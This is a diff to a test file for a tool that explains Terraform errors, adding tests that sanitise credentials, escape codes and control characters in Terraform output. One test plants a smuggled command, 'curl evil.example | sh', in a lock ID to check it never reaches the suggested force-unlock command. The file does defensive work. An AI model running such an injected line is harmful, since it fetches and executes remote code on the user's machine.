@@ -62,7 +62,7 @@ describe("what Terraform says, explained", () => {
 │   Created:   2026-11-24 09:00:00 +0000 UTC
 │   Info:      `;
     expect(adviceOn(said)).toBe(
-      `alice@laptop has held the lock since 2026-11-24 09:00:00 +0000 UTC (OperationTypeApply). Wait for that run; if it is dead: terraform -chdir=${directory} force-unlock 8f5c`,
+      `alice@laptop has held the lock since 2026-11-24 09:00:00 +0000 UTC (OperationTypeApply). Wait for that run to end; if it was killed: terraform -chdir=${directory} force-unlock 8f5c`,
     );
   });
 
@@ -71,5 +71,20 @@ describe("what Terraform says, explained", () => {
     expect(adviceOn("Error: Unable to find remote state")).toBe(
       "a stack before this one is not applied yet: apply argocd first",
     );
+  });
+});
+
+describe("what Terraform says that is not its own", () => {
+  it("holds no credential of a URL, no color, and no control character", () => {
+    const said =
+      "\u001b[31mError: proxyconnect https://alice:s3cr@proxy:3128\u001b[0m\n\u001b]0;title\u0007\tand \u202ereversed";
+    expect(explained(said, stackOf())).toBe(
+      "Error: proxyconnect https://***@proxy:3128\n\\u001b]0;title\\u0007  and \\u202ereversed",
+    );
+  });
+
+  it("is no part of a command", () => {
+    const said = "Error acquiring the state lock\n  ID: 8f5c; curl evil.example | sh\n  Who: alice";
+    expect(adviceOn(said)).toMatch(/force-unlock LOCK_ID$/);
   });
 });
